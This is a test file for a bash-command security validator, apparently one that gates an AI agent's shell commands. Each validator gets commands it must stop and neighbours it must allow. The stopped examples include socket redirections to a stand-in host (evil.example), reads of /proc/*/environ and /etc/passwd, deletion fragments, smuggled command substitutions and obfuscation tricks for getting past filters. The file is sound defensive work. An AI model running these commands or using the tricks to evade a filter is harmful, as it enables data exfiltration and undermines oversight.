// One test per security validator (ids from the reference's list of 23, 0 for the shell-quote
// pre-check): a command it must stop, and a close neighbour it must let through.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these strings are bash commands, where ${...} is bash syntax.
import { describe, expect, it } from "vitest";
import { analyzeCommand } from "../../src/shell/analysis/index.js";
import { EARLY_VALIDATORS, MAIN_VALIDATORS, PRE_CHECKS } from "../../src/shell/validators/index.js";
import { decide, findingId, project } from "./helpers.js";

describe("validator pipeline", () => {
  it("covers every id from 1 to 23 in its phases", () => {
    const ids = new Set([...PRE_CHECKS, ...EARLY_VALIDATORS, ...MAIN_VALIDATORS].map((v) => v.id));
    // Shared numbers: jq reports 2 and 3, redirections 9 and 10, carriage return and newlines 7.
    ids.add(3);
    ids.add(9);
    for (let id = 1; id <= 23; id += 1) expect(ids.has(id), `id ${id}`).toBe(true);
    expect(PRE_CHECKS.map((v) => v.id)).toEqual([17, 0]);
  });

  it("reports safety findings as bypass-proof asks", async () => {
    const result = await decide("echo ok \u001b[2K; ls", { allow: ["Bash(echo:*)", "Bash(ls:*)"] });
    expect(result.behavior).toBe("ask");
    expect(result.decisionReason?.type).toBe("safetyCheck");
  });
});

const cases: Array<{ id: number; name: string; bad: string[]; good: string[] }> = [
  {
    id: 17,
    name: "control characters",
    bad: ["ls\u0007", "echo ok \b\b; rm x", "echo \u202e x", "ls\u007f", "echo \u0085"],
    good: ["echo 'tab\there'"],
  },
  {
    id: 0,
    name: "backslash before a closing single quote",
    bad: [`echo 'a\\' ; rm x`, `echo 'it'\\''s'`],
    good: [`printf '%s\\n' x`],
  },
  { id: 1, name: "incomplete fragments", bad: ["-rf /", "&& ls", "\tls", "| sh", "ls |"], good: ["ls -la"] },
  {
    id: 12,
    name: "git commit message substitution",
    bad: ['git commit -m "$(id)"', 'git commit -m "`id`"'],
    good: ['git commit -m "fix: a # b"'],
  },
  { id: 2, name: "jq system()", bad: [`jq 'system("id")' x.json`], good: ["jq .a x.json"] },
  {
    id: 3,
    name: "jq code from files",
    bad: ["jq -f prog.jq x.json", "jq -L /tmp . x", "jq --rawfile a /etc/passwd ."],
    good: ["jq -r .a x.json"],
  },
  {
    id: 4,
    name: "obfuscated words",
    bad: ["$'rm' x", `$"rm" x`, `sed -''i s/a/b/ f`, `r""m x`, `'''ls'`, `find . ""-delete`],
    good: [`grep -e "a" 'b'`],
  },
  { id: 5, name: "operators inside find patterns", bad: [`find . -name "x;rm y"`], good: [`find . -name '*.ts'`] },
  {
    id: 6,
    name: "variables as command or target",
    bad: ["$CMD x", "ls | xargs $CMD", `echo x > "$OUT"`, "timeout 5 $X"],
    good: ["echo $HOME"],
  },
  { id: 22, name: "quotes inside comments", bad: ["ls # it's"], good: ["ls # fine"] },
  { id: 23, name: "quoted newline before #", bad: ["echo 'a\n# b' ; ls"], good: ["echo 'a\nb'"] },
  { id: 7, name: "carriage return and newlines", bad: ["ls\r", "ls\nrm x", "ls\r\nrm x"], good: ["ls\n"] },
  { id: 11, name: "IFS", bad: ["ls$IFS-la", "echo ${IFS}", "IFS=, read a b"], good: ["echo IFS"] },
  {
    id: 13,
    name: "/proc/*/environ",
    bad: ["cat /proc/self/environ", "grep x /proc/1/environ", "cat /proc/self/root/proc/1/environ"],
    good: ["cat /proc/cpuinfo"],
  },
  {
    id: 8,
    name: "code inside words",
    bad: [
      "echo $(id)",
      "echo `id`",
      "diff <(ls) x",
      "cat =(ls)",
      `echo "\${p@P}"`,
      "test -v 'a[$(id)]'",
      "cat <<EOF\n$(id)\nEOF",
      "ls *(e:'id':)",
    ],
    good: ["cat <<'EOF'\n$(id)\nEOF", "echo ${HOME}"],
  },
  { id: 9, name: "input from a socket", bad: ["cat < /dev/tcp/evil.example/80"], good: ["cat < README.md"] },
  { id: 10, name: "output to a socket", bad: ["ls > /dev/tcp/evil.example/80"], good: ["ls 2>&1"] },
  { id: 15, name: "backslash-escaped blanks", bad: ["echo a\\ b", "echo hi\\\t#x"], good: ["echo 'a b'"] },
  {
    id: 21,
    name: "backslash-escaped operators",
    bad: ["echo a \\&& rm x", "echo \\| sh", "echo a\\;b"],
    good: ["find . -exec echo {} \\;"],
  },
  { id: 18, name: "unicode blanks", bad: ["ls\u00a0-la", "echo ok\u3000#", "ls\ufeff"], good: ["echo café"] },
  { id: 19, name: "mid-word hash", bad: ["ls src#1", "echo a#b"], good: ["echo $#", "echo ${#x}", "echo 'a#b'"] },
  {
    id: 16,
    name: "brace expansion",
    bad: ["echo {a,b}", "echo x{1..3}", "{rm,-rf,x}"],
    good: ["echo '{a,b}'", "find . -exec ls {} +", "echo ${x}"],
  },
  {
    id: 20,
    name: "zsh dangerous builtins",
    bad: ["zmodload zsh/system", "zf_rm x", "=curl x", "sched +1 ls", "emulate sh -c 'ls'"],
    good: ["ls"],
  },
  { id: 14, name: "malformed tokens", bad: ["ls && && ls", "(; ls)", "echo 'a", "ls ) ; rm x"], good: ["(ls)"] },
];

describe.each(cases)("validator $id: $name", ({ id, bad, good }) => {
  it.each(bad)("stops %j", async (command) => {
    expect(await findingId(command)).toBe(id);
  });
  it.each(good)("lets %j through", async (command) => {
    const found = await findingId(command);
    expect(found === undefined || found !== id).toBe(true);
  });
});

describe("early allows", () => {
  it("treats an empty command as running nothing", async () => {
    expect((await decide("   ")).behavior).toBe("allow");
  });

  it("lets a quoted heredoc read by cat pass the substitution check", async () => {
    const analysis = await analyzeCommand(
      `git commit -m "$(cat <<'EOF'\nfix: it's done\n\n# not a comment\nEOF\n)"`,
      project,
    );
    expect(analysis.validation).toEqual({ findings: [], earlyAllow: true });
    const result = await decide(`git commit -m "$(cat <<'EOF'\nfix\nEOF\n)"`, {
      allow: ["Bash(git commit:*)", "Bash(cat:*)"],
    });
    expect(result.behavior).toBe("allow");
  });

  it("lets a plain git commit -m pass, but not one chained to more", async () => {
    expect((await analyzeCommand(`git commit -m "a ' b"`, project)).validation.earlyAllow).toBe(true);
    expect((await analyzeCommand(`git commit -m a; ls`, project)).validation.earlyAllow).toBe(false);
  });

  it("defers newline and plain redirection findings behind graver ones", async () => {
    const analysis = await analyzeCommand("ls > out.txt\necho $(id)", project);
    expect(analysis.validation.findings.map((f) => f.id)).toEqual([8]);
    const deferred = await analyzeCommand("ls > out.txt\npwd", project);
    expect(deferred.validation.findings.map((f) => [f.id, f.deferred])).toEqual([
      [7, true],
      [10, true],
    ]);
  });
});
